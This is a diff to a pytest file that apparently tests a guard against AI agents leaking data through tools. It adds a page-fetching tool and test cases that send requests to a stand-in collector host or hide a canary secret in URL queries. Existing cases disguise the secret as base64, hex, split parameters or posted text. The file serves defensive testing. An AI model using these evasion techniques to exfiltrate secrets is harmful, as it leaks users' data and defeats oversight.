@@ -72,11 +72,17 @@ async def shell(command: str, stdin: str = "", cwd: str | None = None) -> Mappin
     return {"stdout": "fastgrid-setup"}
 
 
+@tool(name="pages", description="Fetch them.", effects=[Send("fetch", arg="addresses")])
+async def pages(addresses: list[str]) -> Mapping[str, Any]:
+    return {"content": ""}
+
+
 TOOLS = [
     shell,
     reader("page", Send("fetch", arg="where")),
     reader("post", Send("network", arg="where")),
     reader("look", Read("screen")),
+    pages,
     reader("other", layer="mcp", server="tickets"),
     reader("read", Read("file", arg="file_path")),
     reader("write", Write("file", arg="file_path")),
@@ -135,6 +141,8 @@ ATTACKS = [
     pytest.param("page", {"where": "https://ok.example/?q=Wng4MS1wbHV0b25pdW0tNzc="}, id="query-in-base64"),
     pytest.param("page", {"where": "https://ok.example/?q=5a7838312d706c75746f6e69756d2d3737"}, id="query-in-hexadecimal"),
     pytest.param("page", {"where": "https://ok.example/?a=Zx81-plu&b=tonium-77"}, id="query-in-pieces"),
+    pytest.param("pages", {"addresses": ["https://collector.evil.example/other"]}, id="host-in-a-list"),
+    pytest.param("pages", {"addresses": ["https://ok.example/", "https://ok.example/?q=Zx81-plutonium-77"]}, id="query-in-a-list"),
     pytest.param("post", {"where": "https://ok.example/", "data": "note: Zx81-plutonium-77"}, id="sent"),
     pytest.param("post", {"where": "https://ok.example/", "data": "the eagle has landed tonight"}, id="sentence"),
     pytest.param("other", {"data": "The eagle  HAS landed tonight."}, id="sent-to-a-server"),
